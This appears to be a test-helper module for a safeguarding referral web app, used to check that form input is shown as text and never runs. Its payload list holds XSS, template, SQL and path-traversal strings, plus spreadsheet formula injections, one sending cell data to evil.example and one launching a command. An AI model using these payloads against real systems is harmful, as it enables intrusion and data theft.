// Helpers for the referral end-to-end tests (issue 5): the values a practitioner types, the
// injection payloads, draft files, downloads and the published schema.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import Ajv2020 from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { ROOT } from './harness.mjs';

/** The free-text inputs (for one child), each with its limit and where it lands in the JSON. */
export const FREE_TEXT = {
  'referrer-name': { max: 200, json: (j) => j.referrer.name },
  'referrer-role': { max: 200, json: (j) => j.referrer.role },
  'referrer-agency': { max: 200, json: (j) => j.referrer.agency },
  'referrer-lead-name': { max: 200, json: (j) => j.referrer.safeguarding_lead_name },
  'child-1-name': { max: 200, json: (j) => j.children[0].name },
  'child-1-ethnicity': { max: 200, json: (j) => j.children[0].ethnicity },
  'child-1-disability': { max: 10000, json: (j) => j.children[0].disability },
  'child-1-agencies': { max: 10000, json: (j) => j.children[0].agencies_known_to },
  'incident-place': { max: 200, json: (j) => j.incident.place },
  'incident-setting': { max: 200, json: (j) => j.incident.setting },
  'incident-what-happened': { max: 10000, json: (j) => j.incident.what_happened },
  'incident-suspected': { max: 10000, json: (j) => j.incident.suspected },
  'agencies-involved': { max: 10000, json: (j) => j.agencies_involved },
  'parallel-details': { max: 10000, json: (j) => j.parallel_process_details },
  'further-children': { max: 10000, json: (j) => j.further_children },
  'immediate-actions': { max: 10000, json: (j) => j.immediate_actions_for_other_children },
  'family-told-details': { max: 10000, json: (j) => j.family_told_details },
  'why-criteria-met': { max: 10000, json: (j) => j.why_criteria_met },
};

/** Injection and unusual input: each must show as text and never run. */
export const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '"><svg onload=window.__xss=1>',
  "' onmouseover='window.__xss=1' data-x='",
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">click me</a>',
  '</textarea><script>window.__xss=1</script>',
  '</title><script>window.__xss=1</script>',
  '<style>body{display:none}</style>',
  '<b>bold</b> <i>italic</i> <marquee>moving</marquee>',
  '&lt;b&gt; &amp; &#x3C;script&#x3E; <!-- comment -->',
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1} #{1+1} <%= 7*7 %>',
  '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '"quoted", with, commas; and; semicolons',
  'back\\slash \\n not a newline \\u0000 \\"',
  'BEGIN:VEVENT SUMMARY:injected END:VEVENT',
  "Robert'); DROP TABLE referrals;--",
  '%s %d %n %x {0} {}',
  '../../../../etc/passwd',
  'null',
  '[] {} 0 -1 NaN undefined true',
  'Ω≈ç√∫ 你好 مرحبا שלום Привет',
  '\u202Eevil.exe\u202C reversed',
  'zero\u200Bwidth\u200Djoiner\uFEFFbom',
  '👩‍👧‍👦 family 🏳️‍🌈 flag 🇬🇧',
  'Z̴̡̪̫̖̥̔̿̃̈̏̎͠a̵̢͎l̶̰̈g̵̱̓o̷̩͝',
  '𝕿𝖍𝖊 “smart” ‘quotes’ — dash … ellipsis',
  'OFFICIAL-SENSITIVE \\\\ OFFICIAL',
  `${'x'.repeat(4990)} very long`,
];

/** Free text as the check page and the printed referral show it: bidirectional controls as codes. */
export const displayed = (value) => value.replace(/[\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069]/g, (c) => `[U+${c.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}]`);

/** `payload`, cut to `max` characters (Unicode scalar values, as the app counts). */
export const fit = (payload, max) => Array.from(payload).slice(0, max).join('');

/** The published schema, compiled by a real JSON Schema (2020-12) validator. */
export async function referralValidator() {
  const schema = JSON.parse(await readFile(path.join(ROOT, 'public/schema/referral.schema.json'), 'utf8'));
  const ajv = new Ajv2020({ strict: true, allErrors: true });
  addFormats(ajv);
  ajv.addFormat('int32', { type: 'number', validate: (n) => Number.isInteger(n) && n >= -(2 ** 31) && n < 2 ** 31 });
  ajv.addFormat('uint32', { type: 'number', validate: (n) => Number.isInteger(n) && n >= 0 && n < 2 ** 32 });
  return ajv.compile(schema);
}

export function assertValidReferral(validate, json) {
  const ok = validate(json);
  assert.ok(ok, `referral JSON invalid against the schema: ${JSON.stringify(validate.errors)}`);
}

/** FNV-1a 64 over UTF-8, as src/referral/draft.rs computes the draft checksum. */
function fnv1a(text) {
  let hash = 0xcbf29ce484222325n;
  for (const byte of Buffer.from(text, 'utf8')) hash = BigInt.asUintN(64, (hash ^ BigInt(byte)) * 0x100000001b3n);
  return hash.toString(16).padStart(16, '0');
}

/** A draft file's text for `caseFacts` and `form` (objects in the app's own field order). */
export function draftText(caseFacts, form, { checksum } = {}) {
  const sum = checksum ?? fnv1a(JSON.stringify([caseFacts, form]));
  return JSON.stringify({ format: 'referral-draft/1', case_facts: caseFacts, form, checksum: sum }, null, 2) + '\n';
}

/** Sets the typed value behind input `id` in a draft's form object. */
export function setField(form, id, value) {
  const child = id.match(/^child-(\d)-(.*)$/);
  const at = child ? form.children[Number(child[1]) - 1] : null;
  const key = child ? { name: 'name', ethnicity: 'ethnicity', disability: 'disability', agencies: 'agencies_known_to' }[child[2]] : null;
  if (at) { at[key] = value; return; }
  const map = {
    'referrer-name': ['referrer', 'name'], 'referrer-role': ['referrer', 'role'], 'referrer-agency': ['referrer', 'agency'], 'referrer-lead-name': ['referrer', 'lead_name'],
    'incident-place': ['incident', 'place'], 'incident-setting': ['incident', 'setting'], 'incident-what-happened': ['incident', 'what_happened'], 'incident-suspected': ['incident', 'suspected'],
  };
  if (map[id]) { form[map[id][0]][map[id][1]] = value; return; }
  const top = { 'agencies-involved': 'agencies_involved', 'parallel-details': 'parallel_process_details', 'further-children': 'further_children', 'immediate-actions': 'immediate_actions', 'family-told-details': 'family_told_details', 'why-criteria-met': 'why_criteria_met' }[id];
  assert.ok(top, `unknown field ${id}`);
  form[top] = value;
}

/** Clicks `button` and returns the text of the file it downloads, with its suggested name. */
export async function downloadFrom(page, button) {
  const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') };
}
